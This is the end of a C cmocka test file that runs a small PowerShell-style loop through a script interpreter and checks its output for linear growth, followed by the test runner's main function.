    make_paper_script(p, SK_LIT("$s='';$a=@();for($i=0;$i -lt "
                                "20000;$i++){$s+='xy';$a+=$i};[IO.File]::WriteAllText('C:\\t\\v',\"$($s.Length) $($a.Count)\")"));
    assert_non_null(strstr(make_paper_told(p), "child v ? 40000 20000"));
    make_paper_free(p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_techniques),       cmocka_unit_test(test_values),
                                       cmocka_unit_test(test_endless),          cmocka_unit_test(test_deep),
                                       cmocka_unit_test(test_cut_everywhere),   cmocka_unit_test(test_same_twice),
                                       cmocka_unit_test(test_growing_is_linear)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
